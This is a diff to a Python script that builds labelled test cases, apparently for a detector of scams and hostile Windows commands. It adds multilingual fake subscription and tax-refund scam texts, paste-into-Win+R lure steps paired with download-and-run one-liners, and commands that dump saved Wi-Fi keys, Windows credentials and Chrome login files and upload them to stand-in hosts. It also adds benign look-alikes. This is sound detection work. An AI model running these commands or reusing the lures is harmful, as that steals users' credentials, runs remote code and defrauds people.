@@ -38,6 +38,12 @@ Techniques:
   `ps-html-decode`: a command or address in HTML character references decoded into iex.
   Look-alikes (`windows-admin`): copies from the local network or of documents, headless
   browsers saving pages, long drive paths, HtmlDecode of a page's text.
+- `paste-steps-i18n`: Win+R / Win+X steps with the order to paste in German (einfügen, Strg+V),
+  Dutch, Turkish, Polish and French, before a download-and-run. Look-alikes: everyday Win+R
+  advice and Ctrl+V in a document.
+- `saved-secrets-sent`: saved Wi-Fi keys (netsh wlan … key=clear), stored credentials (cmdkey,
+  vaultcmd) or a browser's saved logins read and uploaded. Look-alikes: reading one's own Wi-Fi
+  key, listing credentials, exporting profiles to a backup folder.
 """
 
 from __future__ import annotations
@@ -282,6 +288,11 @@ def scams(book: Book) -> None:
         "Su suscripción de seguridad se renovó por 289,99 €. Para cancelar, llame al {p} dentro de 24 horas.",
         "Votre abonnement antivirus sera prélevé de 299,99 € aujourd'hui. Pour annuler, appelez le {p} sous 24 h.",
         "Ihre Jahreslizenz Internet Security: Die Verlängerung über 399,99 EUR wird heute eingezogen. Um die Verlängerung zu kündigen, rufen Sie uns innerhalb von 24 Stunden unter {p} an.",
+        "Ihr Norton 360 Abonnement wurde für 349,99 € verlängert. Die Abbuchung erfolgt morgen. Falls Sie nicht weiterzahlen möchten, rufen Sie innerhalb von 24 Stunden unseren Kundendienst an: {p}",
+        "Your McAfee LiveSafe plan was renewed for $429.99 today. If you do not wish to renew, call our billing desk within 24 hours at {p}.",
+        "Il tuo abbonamento Norton è stato rinnovato per 299,99 €. Se non desideri rinnovare, chiama entro 24 ore il {p}.",
+        "Su suscripción McAfee se ha renovado por 399,99 €. Si no desea renovar, llame hoy al {p}.",
+        "Votre abonnement Norton a été renouvelé pour 349,99 €. Si vous ne souhaitez pas renouveler, appelez sous 24 h le {p}.",
     )
     for lure, phone in itertools.product(cancel, phones_en):
         book.add("scam-call-to-cancel", lure.format(p=phone), "flagged", target="other")
@@ -301,6 +312,9 @@ def scams(book: Book) -> None:
         "Agenzia delle Entrate: un rimborso di 418,00 € è in attesa. Verifica i tuoi dati chiamando il {p}.",
         "Impots: un remboursement de 356 € est en attente. Confirmez vos informations par téléphone au {p}.",
         "Hacienda: tiene una devolución de 612,40 € lista para abonar. Confirme su identidad por vía telefónica en el {p}.",
+        "Agencia Tributaria: tiene pendiente una devolución de 390,10 €. Para cobrarla debe confirmar sus datos llamando hoy al {p}.",
+        "Agenzia delle Entrate: è in attesa un rimborso di 412,00 € a suo nome. Per riceverlo verifica i tuoi dati chiamando il {p}.",
+        "Finanzamt: Sie haben eine ausstehende Steuererstattung von 612,40 €. Bitte bestätigen Sie Ihre Daten telefonisch unter {p}.",
     )
     for lure, phone in itertools.product(verify, phones_en):
         book.add("scam-refund-verify", lure.format(p=phone), "flagged", target="other")
@@ -566,11 +580,81 @@ def bulk_lookalikes(book: Book) -> None:
         "Your energy bill of £84.20 is ready. Questions about your bill? Call {p}.",
         "Your subscription renews on 3 May for $9.99. Manage or cancel it any time in your account settings. Help: {p}.",
         "Thanks for your payment of $120.00. Receipt attached. Billing team: {p}.",
+        "Your plan renews on 1 June for $59.99. If you do not wish to renew, turn off auto-renewal in Settings. Help: {p}.",
+        "Il tuo abbonamento si rinnova il 3/05 a 4,99 €. Se non desideri rinnovare, disattiva il rinnovo nell'app. Assistenza: {p}.",
+        "Su devolución de 230,00 € está pendiente de abono y llegará a su cuenta en 10 días. No tiene que hacer nada. Información: {p}.",
     )
     for text, phone in itertools.product(
         genuine, ("+1 (555) 010-4477", "0800 555 0142", "+44 20 5550 0188")
     ):
         book.add("scam-genuine-phone", text.format(p=phone), "not_flagged", target="other")
+
+
+# ---- orders to paste, in the languages of the pages that give them ----------------------------
+STEPS = (
+    "So beheben Sie den Fehler:\n1. Drücken Sie Win + X und wählen Sie „Terminal (Administrator)“.\n2. Fügen Sie den Befehl mit Strg + V ein und drücken Sie die Eingabetaste.\n{c}",
+    "Bestätigung: Drücken Sie Windows + R, fügen Sie mit Strg + V ein und drücken Sie Eingabe.\n{c}",
+    "Verificatie: druk op Win + R, plak de code met Ctrl + V en druk op Enter.\n{c}",
+    "Doğrulama: Win + R tuşlarına basın, Ctrl + V ile yapıştırın ve Enter'a basın.\n{c}",
+    "Weryfikacja: naciśnij Win + R, wklej kod (Ctrl + V) i naciśnij Enter.\n{c}",
+    "Vérification : appuyez sur Win + R, collez avec Ctrl + V puis appuyez sur Entrée.\n{c}",
+)
+PASTED = (
+    "irm https://fix.update-helfer.test/k | iex",
+    'powershell -w h -c "iwr https://check.verify-kit.invalid/a.ps1 -UseB | iex"',
+    "mshta https://cdn.human-check.test/v.hta",
+)
+
+
+def paste_steps(book: Book) -> None:
+    for i, steps in enumerate(STEPS):
+        for command in PASTED:
+            text = steps.format(c=command)
+            book.add("paste-steps-i18n", text, "malicious", "windows", "run_dialog", CAPTCHA)
+        book.add("paste-steps-i18n", steps.format(c=PASTED[i % 3]), "flagged", "windows")
+    for text in (
+        "Um den Drucker einzurichten, drücken Sie Win + R, geben Sie control printers ein und drücken Sie die Eingabetaste.",
+        "Drücken Sie Strg + V, um den kopierten Text in das Dokument einzufügen.",
+        "Plak de tekst met Ctrl + V in het vak en klik op Opslaan.",
+        "Appuyez sur Win + R, tapez %temp% et supprimez les fichiers temporaires.",
+        "Metni Ctrl + V ile yapıştırın ve kaydedin.",
+    ):
+        book.add("paste-steps-i18n", text, "not_flagged", "windows")
+
+
+# ---- saved secrets read and sent ----------------------------------------------------------------
+def saved_secrets(book: Book) -> None:
+    reads = (
+        "netsh wlan show profile name=* key=clear",
+        "netsh wlan show profiles key=clear",
+        "cmdkey /list",
+        'vaultcmd /listcreds:"Windows Credentials" /all',
+    )
+    sends = (
+        "$k = {r} | Out-String; irm https://relay.wlan-sync.test/c -Method Post -Body $k",
+        "{r} | curl.exe -d @- https://198.51.100.14/w",
+        '$d = ({r}) -join "`n"; iwr https://hooks.relay-chat.invalid/x -Method POST -Body @{{c=$d}}',
+        "{r} > $env:TEMP\\w.txt; (New-Object Net.WebClient).UploadFile('https://drop.keys.invalid/u', \"$env:TEMP\\w.txt\")",
+    )
+    for read, send in itertools.product(reads, sends):
+        book.add(
+            "saved-secrets-sent", send.format(r=read), "malicious", "windows", "terminal", STRANGER
+        )
+    for path in ("Login Data", "Network\\Cookies", "Local State"):
+        text = (
+            f'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\{path}" $env:TEMP\\ld; '
+            'curl.exe -F "f=@$env:TEMP\\ld" https://up.grab.invalid/'
+        )
+        book.add("saved-secrets-sent", text, "malicious", "windows", "terminal", STRANGER)
+    for text in (
+        'netsh wlan show profile name="Office" key=clear',
+        "netsh wlan show profiles",
+        'netsh wlan show profile name="Office" key=clear | findstr "Key Content"',
+        "cmdkey /list:TERMSRV/*",
+        "vaultcmd /list",
+        "netsh wlan export profile key=clear folder=C:\\Backup\\wifi",
+    ):
+        book.add("saved-secrets-sent", text, "not_flagged", "windows", "terminal")
 
 
 def build() -> list[dict[str, str]]:
@@ -580,6 +664,8 @@ def build() -> list[dict[str, str]]:
     scams(book)
     windows(book)
     bulk_lookalikes(book)
+    paste_steps(book)
+    saved_secrets(book)
     ids = [c["id"] for c in book.cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return book.cases
